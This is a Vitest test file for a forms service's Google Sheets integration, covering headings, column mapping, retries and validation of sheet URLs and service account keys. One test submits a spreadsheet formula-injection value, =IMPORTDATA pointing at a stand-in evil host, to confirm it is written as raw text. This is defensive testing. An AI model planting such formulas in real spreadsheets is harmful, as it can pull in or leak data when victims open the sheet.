import { afterAll, afterEach, beforeAll, describe, expect, test } from 'vitest';
import { googleRefusals, type SheetsServer, sheetId, startGoogleSheets } from '#kit/google-sheets-testing.ts';
import { testSecret } from '#kit/secret-testing.ts';
import { openTestSubgraph, type TestSubgraph } from '#kit/test-subgraph.ts';
import { formsSubgraph } from '../subgraph.ts';
import { makeForm, owner, send, type TestForm } from '../submissions/form-testing.ts';
import { GoogleSheets } from './google-sheets.ts';
import { hookDelivery } from './hooks.ts';

const connectText = `mutation ($input: ConnectFormInput!) { connectForm(input: $input) { __typename
  ... on FormConnected { secret connection { id target status } } ... on InvalidInput { field message } } }`;
const statusText = 'query ($id: ID!) { form(id: $id) { connections { target status count } } }';
const sheetUrl = `https://docs.google.com/spreadsheets/d/${sheetId}/edit#gid=0`;
const fields = [
  { type: 'TEXT', title: 'Name' },
  { type: 'SECTION', title: 'About you' },
  { type: 'TEXT', title: 'Note' },
];
const headings = ['Submitted On', 'Name', 'Note', 'Page', 'Path', 'Submission'];

const log = { error: () => undefined, warn: () => undefined, info: () => undefined };
const addressesOf = ({ url }: SheetsServer) => ({ sheetsUrl: url, tokenUrl: `${url}/token` });

let google: SheetsServer;
let forms: TestSubgraph;

beforeAll(async () => {
  google = await startGoogleSheets();
  forms = await openTestSubgraph(formsSubgraph, {
    google: addressesOf(google),
  });
});
afterEach(async () => {
  await forms.sql('DELETE FROM form_connection');
  google.rows.length = 0;
});
afterAll(async () => {
  await forms.close();
  await google.close();
});

async function connect(form: TestForm, input: object = {}) {
  const given = { formId: form.id, kind: 'GOOGLE_SHEETS', sheetUrl, serviceAccountKey: google.key, ...input };
  return forms.run(connectText, { input: given }, owner);
}

async function statusOf(form: TestForm) {
  return (await forms.run(statusText, { id: form.id }, owner)).at('form.connections.0');
}

/** Has what waits tried again at once, as the queue does it once the pause is over. */
async function deliverAgain(): Promise<void> {
  await expect
    .poll(() => forms.sql('SELECT FROM form_connection WHERE claimed_until IS NOT NULL'))
    .toEqual([]);
  const { database } = forms.subgraph;
  const ways = { sheets: new GoogleSheets(addressesOf(google)), secret: testSecret, post: async () => 500 };
  const work = hookDelivery(database, ways, log);
  for (const { id } of await forms.sql("SELECT id FROM hook_delivery WHERE state = 'QUEUED'"))
    await work.remind(database.forWebsite('website'), String(id));
}

describe('a form that is connected to Google Sheets', () => {
  test('writes its headings, appends each submission as a row of plain text, and keeps its key sealed', async () => {
    const form = await makeForm(forms, fields);
    const made = await connect(form);
    expect(made.at('connectForm')).toMatchObject({
      secret: null,
      connection: { target: 'Guest book', status: 'Awaiting Connection' },
    });
    expect(google.rows).toEqual([headings]);
    const stored = JSON.stringify(await forms.sql('SELECT * FROM form_connection'));
    expect(stored).toContain(sheetId);
    expect(stored).not.toContain('PRIVATE KEY');
    await send(
      forms,
      form,
      { Name: 'Ada', Note: '=IMPORTDATA("https://evil.example")' },
      { pagePath: '/contact' },
    );
    await expect
      .poll(() => google.rows[1]?.slice(1, 5))
      .toEqual([...['Ada', '=IMPORTDATA("https://evil.example")', '', '/contact']]);
    await expect.poll(() => statusOf(form)).toEqual({ target: 'Guest book', status: 'Connected', count: 1 });
    // Texts stay texts only because they are sent as such.
    expect(google.asked.at(-1)?.path).toContain('valueInputOption=RAW');
    expect(google.asked.filter(({ path }) => path === '/token').length).toBeLessThan(2);
  });

  test('finds its columns where the owner moved them, and makes room for a field that is new', async () => {
    google.columns = 3;
    google.rows.push(['Note', 'Mine', 'Name']);
    const form = await makeForm(forms, fields);
    await connect(form);
    expect(google.rows).toEqual([['Note', 'Mine', 'Name', 'Submitted On', 'Page', 'Path', 'Submission']]);
    expect(google.columns).toBe(7);
    await send(forms, form, { Name: 'Ada', Note: 'Hello' });
    await expect.poll(() => google.rows[1]?.slice(0, 3)).toEqual(['Hello', '', 'Ada']);
  });

  test('sends again what Google did not take, says why meanwhile, and writes nothing twice', async () => {
    const form = await makeForm(forms, fields);
    await connect(form);
    for (const [refusal, status] of [
      [
        googleRefusals.unauthorized,
        'Google does not accept the key of the service account. Connect with a new one.',
      ],
      [
        googleRefusals.forbidden,
        'Share the spreadsheet with sheets@shop.iam.gserviceaccount.com as an editor.',
      ],
      [googleRefusals.notFound, 'Google has no spreadsheet at this address.'],
      [googleRefusals.tooMany, 'Google takes no more at the moment.'],
    ] as const) {
      google.fail(':append', refusal);
      await send(forms, form, { Name: 'Ada' });
      await expect.poll(() => statusOf(form)).toMatchObject({ status });
      await deliverAgain();
      await expect.poll(() => statusOf(form)).toMatchObject({ status: 'Connected' });
    }
    expect(google.rows).toHaveLength(5);
    google.loseAnswer();
    await send(forms, form, { Name: 'Bob' });
    await expect.poll(() => google.rows).toHaveLength(6);
    await deliverAgain();
    await send(forms, form, { Name: 'Cy' });
    await expect.poll(() => statusOf(form)).toMatchObject({ status: 'Connected', count: 6 });
    expect(google.rows.slice(4).map((row) => row[1])).toEqual(['Ada', 'Bob', 'Cy']);
  });

  test('is not connected before Google agrees, and its owner reads what is still to be done', async () => {
    const form = await makeForm(forms, fields);
    const problem = async (input: object) => (await connect(form, input)).at('connectForm');
    expect(await problem({ sheetUrl: 'https://evil.example/spreadsheets/d/x' })).toMatchObject({
      field: 'input.sheetUrl',
    });
    expect(await problem({ serviceAccountKey: '{}' })).toMatchObject({ field: 'input.serviceAccountKey' });
    expect(await problem({ sheetUrl: 'a-spreadsheet-that-is-not-there' })).toMatchObject({
      message: 'Google has no spreadsheet at this address.',
    });
    const refusals = [
      [googleRefusals.forbidden, 'input.sheetUrl'],
      [googleRefusals.switchedOff, 'input.sheetUrl'],
      [googleRefusals.tooMany, 'input.sheetUrl'],
      [googleRefusals.unauthorized, 'input.serviceAccountKey'],
    ] as const;
    for (const [refusal, field] of refusals) {
      google.fail('?fields=', refusal);
      expect(await problem({})).toMatchObject({ __typename: 'InvalidInput', field });
    }
    const forged = JSON.stringify({
      ...JSON.parse(google.key),
      private_key_id: 'key-2',
      client_email: 'x@y.example',
    });
    expect(await problem({ serviceAccountKey: forged })).toMatchObject({ field: 'input.serviceAccountKey' });
    expect(await forms.sql('SELECT FROM form_connection')).toEqual([]);
  });
});
